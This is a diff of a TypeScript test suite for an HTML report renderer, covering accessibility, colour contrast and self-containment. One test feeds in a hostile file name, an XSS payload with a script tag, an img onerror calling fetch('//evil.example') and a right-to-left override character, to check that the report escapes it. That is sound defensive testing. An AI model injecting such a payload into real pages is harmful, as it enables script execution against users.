@@ -9,7 +9,7 @@ interface Tag {
   readonly attributes: string;
 }
 
-/** The tags of a page in their order; fails where one is not closed in its place. */
+/** The tags of a page in their order. Fails if a tag is not closed in order. */
 function tagsOf(page: string): Tag[] {
   const open: string[] = [];
   const tags: Tag[] = [];
@@ -25,7 +25,7 @@ function tagsOf(page: string): Tag[] {
     }
   }
   expect(open).toEqual([]);
-  // Whatever is left of the text holds no bracket that a browser could take for a tag.
+  // The remaining text has no bracket that a browser could read as a tag.
   expect(markup.replace(/<\/?[a-z][^<>]*>/g, '')).not.toMatch(/[<>]/);
   return tags;
 }
@@ -38,7 +38,7 @@ function attribute(tag: Tag, name: string): string | undefined {
   return new RegExp(`(?:^|\\s)${name}="([^"]*)"`).exec(tag.attributes)?.[1];
 }
 
-/** As WCAG defines it. */
+/** The contrast by WCAG. */
 function contrastOf(one: string, other: string): number {
   const [lighter, darker] = [luminance(one), luminance(other)].sort((a, b) => b - a) as [number, number];
   return (lighter + 0.05) / (darker + 0.05);
@@ -57,56 +57,56 @@ describe('the HTML report', () => {
   const page = renderReport(reportWith(), 'html');
   const tags = tagsOf(page);
 
-  it('is well formed and says its language, its encoding and its title', () => {
+  it('the HTML report is well formed and has a language, an encoding and a title', () => {
     expect(page.startsWith('<!doctype html>')).toBe(true);
     expect(attribute(named(tags, 'html')[0]!, 'lang')).toBe('en');
     expect(attribute(named(tags, 'meta')[0]!, 'charset')).toBe('utf-8');
     expect(named(tags, 'title').length).toBeGreaterThan(0);
   });
 
-  it('has one of each landmark and one first heading', () => {
+  it('the HTML report has one of each landmark and one h1', () => {
     const counts = ['header', 'main', 'footer', 'h1'].map((name) => named(tags, name).length);
     expect(counts).toEqual([1, 1, 1, 1]);
   });
 
-  it('gives no id twice, and refers to none that is not there', () => {
+  it('the HTML report has unique ids and refers only to existing ones', () => {
     const ids = tags.flatMap((tag) => attribute(tag, 'id') ?? []);
     const referred = tags.flatMap((tag) => attribute(tag, 'aria-labelledby')?.split(' ') ?? []);
     expect(new Set(ids).size).toBe(ids.length);
     expect(referred.filter((id) => !ids.includes(id))).toEqual([]);
   });
 
-  it('describes every chart to who does not see it', () => {
+  it('the HTML report has a text description of every chart', () => {
     const charts = named(tags, 'svg');
     expect(charts.length).toBe(5);
     expect(named(tags, 'desc').length).toBe(charts.length);
     expect(charts.map((chart) => attribute(chart, 'role'))).toEqual(charts.map(() => 'img'));
   });
 
-  it('gives every table a caption, and every head cell its scope', () => {
+  it('the HTML report has a caption for every table and a scope for every head cell', () => {
     expect(named(tags, 'caption').length).toBe(named(tags, 'table').length);
     expect(named(tags, 'th').filter((cell) => attribute(cell, 'scope') === undefined)).toEqual([]);
   });
 
-  it('needs no script and nothing from elsewhere', () => {
+  it('the HTML report has no script and loads nothing', () => {
     expect(named(tags, 'script')).toEqual([]);
     expect(tags.filter((tag) => /\s(?:src|href|style|on[a-z]+)=/.test(tag.attributes))).toEqual([]);
     expect(page).not.toMatch(/https?:|@import|url\(/);
   });
 
-  it('has colours for both grounds, and light ones on paper', () => {
+  it('the HTML report has dark and light colours and prints light ones', () => {
     expect(page).toContain('@media screen and (prefers-color-scheme: dark)');
     expect(page).toContain('@media print');
   });
 
-  it('says its headings in steps of one', () => {
+  it('the HTML report skips no heading level', () => {
     const levels = tags.flatMap(({ name }) => (/^h[1-6]$/.test(name) ? [Number(name[1])] : []));
     expect(levels[0]).toBe(1);
     for (const [index, level] of levels.entries())
       expect(level).toBeLessThanOrEqual((levels[index - 1] ?? 0) + 1);
   });
 
-  it('can be scrolled by keyboard where a table is wider than the page, and says what is scrolled', () => {
+  it('the HTML report puts every table into a region that scrolls by keyboard and has a label', () => {
     const regions = tags.filter((tag) => attribute(tag, 'class') === 'scroll');
     expect(regions.length).toBe(named(tags, 'table').length);
     for (const region of regions) {
@@ -116,23 +116,26 @@ describe('the HTML report', () => {
     }
   });
 
-  it.each(['light', 'dark'])('has a contrast of 4.5 in text and 3 in charts, %s', (scheme) => {
-    const blocks = [...page.matchAll(/:root \{([^}]*)\}/g)].map(([, block]) => block!);
-    const colours = new Map<string, string>();
-    for (const [, name, colour] of (scheme === 'light' ? blocks.slice(0, 1) : blocks)
-      .join('')
-      .matchAll(/--(\w+): (#[0-9a-f]{3,6})/g))
-      colours.set(name!, colour!);
-    const contrast = (one: string, other: string): number =>
-      contrastOf(colours.get(one)!, colours.get(other)!);
-    for (const ground of ['ground', 'panel'])
-      for (const text of ['text', 'soft'])
-        expect.soft(contrast(text, ground), `${text} on ${ground}`).toBeGreaterThan(4.5);
-    for (const mark of ['good', 'plain', 'quiet', 'warning', 'late', 'other'])
-      expect.soft(contrast(mark, 'ground'), mark).toBeGreaterThan(3);
-  });
+  it.each(['light', 'dark'])(
+    'the HTML report has a contrast of 4.5 in text and 3 in charts in the %s scheme',
+    (scheme) => {
+      const blocks = [...page.matchAll(/:root \{([^}]*)\}/g)].map(([, block]) => block!);
+      const colours = new Map<string, string>();
+      for (const [, name, colour] of (scheme === 'light' ? blocks.slice(0, 1) : blocks)
+        .join('')
+        .matchAll(/--(\w+): (#[0-9a-f]{3,6})/g))
+        colours.set(name!, colour!);
+      const contrast = (one: string, other: string): number =>
+        contrastOf(colours.get(one)!, colours.get(other)!);
+      for (const ground of ['ground', 'panel'])
+        for (const text of ['text', 'soft'])
+          expect.soft(contrast(text, ground), `${text} on ${ground}`).toBeGreaterThan(4.5);
+      for (const mark of ['good', 'plain', 'quiet', 'warning', 'late', 'other'])
+        expect.soft(contrast(mark, 'ground'), mark).toBeGreaterThan(3);
+    },
+  );
 
-  it('shows a hostile file name as text', () => {
+  it('the HTML report escapes a hostile file name', () => {
     const { run } = reportWith();
     const file = `"><script>alert('x')</script><img src=x onerror="fetch('//evil.example')">&amp;\u202Evsc.csv`;
     const hostile = renderReport(reportWith({ run: { ...run, file } }), 'html');
@@ -142,7 +145,7 @@ describe('the HTML report', () => {
     expect(hostile).not.toContain('\u202E');
   });
 
-  it('draws a run in which nothing happened yet', () => {
+  it('the HTML report renders a run without calls', () => {
     const empty = reportWith({
       outcomes: {},
       coverage: { contacts: 0, fields: [] },
